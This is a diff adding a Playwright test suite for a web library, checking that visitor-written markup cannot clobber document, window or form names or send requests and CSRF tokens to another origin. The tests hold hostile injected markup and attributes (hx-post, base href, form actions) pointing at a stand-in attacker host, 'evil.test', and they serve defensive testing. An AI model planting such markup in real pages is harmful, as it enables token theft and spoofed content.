@@ -1,0 +1,245 @@
+"""Markup that a visitor may write takes names that scripts read: of the document, the window and forms."""
+
+from collections.abc import AsyncIterator
+from dataclasses import dataclass, field
+from urllib.parse import quote
+
+import pytest
+import pytest_asyncio
+from playwright.async_api import Request, Route, expect
+
+from tests.browser.tab import REPORT, Tab, on_every_htmx, on_every_morph
+
+pytestmark = [pytest.mark.asyncio(loop_scope="session")]
+
+EVIL = "http://evil.test"
+BLOCK = '<div id="block" class="evil">Evil</div>'
+NOTICE = '<div class="mizan-session evil"><p data-mizan-when="ended">Evil</p></div>'
+
+# Otherwise the browser complains that htmx 2 asks a foreign answer for them.
+READ_BY_HTMX2 = [
+    *("HX-Location", "HX-Push", "HX-Push-Url", "HX-Redirect", "HX-Refresh", "HX-Replace-Url", "HX-Reselect"),
+    *("HX-Reswap", "HX-Retarget", "HX-Trigger", "HX-Trigger-After-Settle", "HX-Trigger-After-Swap"),
+]
+
+# Of forms, what neither htmx nor Idiomorph reads: they fail by controls of other names, whoever calls them.
+NAMES = [
+    *("action", "checked", "children", "content", "dataset", "focus", "id", "innerHTML", "isConnected"),
+    *("length", "method", "name", "outerHTML", "requestSubmit", "reset", "scrollTop", "shadowRoot"),
+    *("status", "submit", "target", "textContent", "title", "type", "value"),
+]
+
+
+@dataclass
+class Elsewhere:
+    """A server of another origin, which answers whatever would be taken for ours."""
+
+    asked: list[Request] = field(default_factory=list)
+
+    async def answer(self, route: Route) -> None:
+        """Note the request, and give what looks like a block and a notice."""
+        self.asked.append(route.request)
+        headers = {
+            "Access-Control-Allow-Origin": "*",
+            "Access-Control-Allow-Headers": "*",
+            "Access-Control-Expose-Headers": ", ".join(["X-Mizan-Refresh", *READ_BY_HTMX2]),
+            "X-Mizan-Refresh": "1",
+        }
+        await route.fulfill(body=BLOCK + NOTICE, content_type="text/html", headers=headers)
+
+    async def told(self) -> list[str]:
+        """List all that was sent there: headers and bodies."""
+        return [f"{await each.all_headers()} {each.post_data}" for each in self.asked]
+
+
+@pytest_asyncio.fixture(loop_scope="session")
+async def elsewhere(tab: Tab) -> AsyncIterator[Elsewhere]:
+    """Have the other origin answer; nothing of it may ever be in the page."""
+    server = Elsewhere()
+    await tab.page.route(f"{EVIL}/**", server.answer)
+    yield server
+
+
+async def open_with(tab: Tab, markup: str = "", names: str = "") -> None:
+    """Go to the page with somebody's markup in it."""
+    await tab.open(f"/markup/?markup={quote(markup)}&names={quote(names)}")
+
+
+async def change(tab: Tab) -> None:
+    """Rename by the page's own form, and wait until both blocks show it."""
+    # By the element itself: Playwright reads forms by the names that are taken here.
+    await tab.page.locator("#send button").evaluate("(button) => button.click()")
+    await expect(tab.page.locator("#plain b")).to_have_text("Grace")
+    await expect(tab.page.locator("#block b")).to_have_text("Grace")
+    await tab.happens("refreshed", 2)
+
+
+# ---- the document
+
+
+@on_every_htmx
+@pytest.mark.parametrize("tag", ['<img name="{}"{}>', '<form name="{}"{}></form>'])
+@pytest.mark.parametrize(
+    "name",
+    ["currentScript", "cookie", "hidden", "dispatchEvent", "getElementById", "activeElement"],
+)
+async def test_a_name_of_the_document_is_read_from_the_document(
+    tab: Tab, elsewhere: Elsewhere, tag: str, name: str
+) -> None:
+    evil = f' data-mount="{EVIL}/" data-socket="{EVIL}/" data-csrf-cookie="sessionid" data-session="f"'
+    await open_with(tab, tag.format(name, evil))
+    await change(tab)
+    assert tab.batches == [["user;user_id=5"] * 2]
+    assert elsewhere.asked == []
+
+
+@on_every_htmx
+async def test_the_notice_of_a_session_comes_from_this_site(tab: Tab, elsewhere: Elsewhere) -> None:
+    await open_with(
+        tab, f'<img name="currentScript" data-mount="{EVIL}/" data-login="/none/" data-session="f">'
+    )
+    await tab.page.context.add_cookies([{"name": "trouble", "value": "login", "url": tab.address}])
+    with tab.forgive(REPORT):
+        await tab.invalidate("user")
+        await expect(tab.page.locator(".mizan-session")).to_be_visible()
+    await expect(tab.page.locator(".evil")).to_have_count(0)
+    assert elsewhere.asked == []
+
+
+@on_every_htmx
+async def test_a_cookie_is_read_beside_an_image_of_that_name(tab: Tab) -> None:
+    await open_with(tab, '<img name="cookie">')
+    bare = 'document.querySelector("[name=cookie]").remove()'
+    laid = """document.body.insertAdjacentHTML("beforeend", '<img name="cookie">')"""
+    note = 'document.cookie = "mizan_invalidate=0123456789abcdef:user; Path=/"'
+    await tab.page.evaluate(f"() => {{ {bare}; {note}; {laid}; dispatchEvent(new Event('pageshow')) }}")
+    await tab.happens("refreshed", 2)
+    await tab.page.evaluate(bare)
+    assert "mizan_invalidate" not in await tab.page.evaluate("document.cookie")
+
+
+# ---- the window
+
+
+@on_every_htmx
+@pytest.mark.parametrize("name", ["mizan", "htmx", "Idiomorph", "addEventListener"])
+@pytest.mark.parametrize("count", [1, 2])
+async def test_a_heading_may_have_any_id(tab: Tab, name: str, count: int) -> None:
+    await open_with(tab, f'<h2 id="{name}">A heading</h2>' * count)
+    await change(tab)
+
+
+@on_every_morph
+async def test_headings_keep_their_ids_and_their_text(tab: Tab) -> None:
+    await open_with(tab, '<h2 id="mizan-announcements">Announcements</h2>')
+    await change(tab)
+    await expect(tab.page.locator("[role=status]")).to_have_text("renamed")
+    await expect(tab.page.locator("h2")).to_have_text("Announcements")
+    await expect(tab.page.locator("#plain h3")).to_have_id("mizan-keep-1")
+
+
+async def test_a_frame_may_have_any_name(tab: Tab) -> None:
+    await open_with(tab, '<iframe name="mizan" src="about:blank"></iframe>')
+    await change(tab)
+
+
+# ---- forms
+
+
+@on_every_morph
+async def test_a_form_may_have_controls_of_many_names(tab: Tab, htmx: str) -> None:
+    more = ["querySelector", "contains"] if htmx[0] == "4" else ["cloneNode", "parentNode", "elements"]
+    await open_with(tab, names=" ".join([*NAMES, *more]))
+    await change(tab)
+    await expect(tab.page.locator("[aria-busy]")).to_have_count(0)
+    await expect(tab.page.locator(".mizan-stale")).to_have_count(0)
+
+
+@on_every_morph
+@pytest.mark.parametrize("name", NAMES)
+async def test_what_is_typed_into_it_stays(tab: Tab, name: str) -> None:
+    await open_with(tab, names=name)
+    await tab.page.get_by_label(f"In the block: {name}").fill("typed")
+    await change(tab)
+    await expect(tab.page.get_by_label(f"In the block: {name}")).to_have_value("typed")
+
+
+@on_every_htmx
+async def test_a_form_of_the_server_s_may_have_them_too(tab: Tab) -> None:
+    await tab.open("/forms/shadows/")
+    errors = tab.page.locator("form .errorlist li")
+    await tab.page.locator("[name=id]").focus()
+    await tab.page.keyboard.press("Tab")
+    await expect(errors).to_have_text(["This field is required."])
+    await tab.page.locator("[name=action]").fill("many")
+    async with tab.answered(422):
+        await tab.page.keyboard.press("Enter")
+        await expect(errors).to_have_text(["This field is required.", "Enter a valid email address."])
+    await expect(tab.page.locator("[name=action]")).to_have_value("many")
+    await expect(tab.page.locator("form[aria-busy]")).to_have_count(0)
+    await tab.page.locator("[name=id]").fill("7")
+    await tab.page.locator("[name=action]").fill("ada@example.org")
+    await tab.page.keyboard.press("Enter")
+    await expect(tab.page.get_by_role("status")).to_have_text("Sent.")
+    assert tab.posts.count("/form/shadows/") == 2
+
+
+# ---- other origins
+
+
+@on_every_htmx
+async def test_a_block_of_another_origin_is_not_asked_for(tab: Tab, elsewhere: Elsewhere) -> None:
+    foreign = f'<div id="foreign" data-mizan="user" hx-get="{EVIL}/" hx-trigger="mizan:refresh">Old</div>'
+    await open_with(tab, foreign)
+    with tab.forgive(f"{REPORT}.*it is not of this origin, and was not sent"):
+        await change(tab)
+        await tab.happens("error", 1)
+    await expect(tab.page.locator("#foreign")).to_have_attribute("data-mizan-error", "0")
+    await expect(tab.page.locator("#foreign")).to_have_text("Old")
+    assert elsewhere.asked == []
+
+
+@on_every_htmx
+async def test_another_base_sends_nothing_elsewhere(tab: Tab, elsewhere: Elsewhere) -> None:
+    await open_with(tab, f'<base href="{EVIL}/">')
+    with tab.forgive(f"{REPORT}.*it is not of this origin, and was not sent"):
+        await tab.invalidate("user")
+        await tab.happens("error", 2)
+    assert elsewhere.asked == []
+
+
+@on_every_htmx
+async def test_a_request_to_another_origin_carries_no_token(tab: Tab, elsewhere: Elsewhere) -> None:
+    own = '<form id="own" data-mizan-form="x" action="/own/"><input name="a" value="1"></form>'
+    send = f'hx-post="{EVIL}/" hx-swap="none" hx-include="#own"'
+    await open_with(tab, f'{own}<form id="foreign" {send}><button>Go</button></form>')
+    token = await tab.page.evaluate("mizan.cookie('csrftoken')")
+    await tab.page.evaluate("() => { htmx.config.selfRequestsOnly = false; htmx.config.mode = 'cors'; }")
+    await tab.page.evaluate(
+        """() => new Promise((done) => {
+            for (const name of ["htmx:afterRequest", "htmx:finally:request"]) {
+                addEventListener(name, () => done());
+            }
+            document.querySelector("#foreign button").click();
+        })"""
+    )
+    sent = [each for each in elsewhere.asked if each.method == "POST"]
+    assert [("x-csrftoken" in await each.all_headers(), each.post_data) for each in sent] == [(False, "a=1")]
+    assert not any(token in each for each in await elsewhere.told())
+
+
+@on_every_htmx
+async def test_a_form_of_another_origin_is_none_of_ours(tab: Tab, elsewhere: Elsewhere) -> None:
+    addresses = f'data-mizan-validate="{EVIL}/check/" action="{EVIL}/send/"'
+    form = (
+        f'<form id="f" data-mizan-form="x" method="post" {addresses}>'
+        '<input id="q" name="q"><button>Go</button></form>'
+    )
+    await open_with(tab, form)
+    token = await tab.page.evaluate("mizan.cookie('csrftoken')")
+    await tab.page.locator("#q").fill("hello")
+    await tab.page.locator("#q").press("Tab")
+    async with tab.page.expect_response(f"{EVIL}/send/"):
+        await tab.page.locator("#f button").click()
+    assert [each.url for each in elsewhere.asked if "favicon" not in each.url] == [f"{EVIL}/send/"]
+    assert not any(token in each for each in await elsewhere.told())
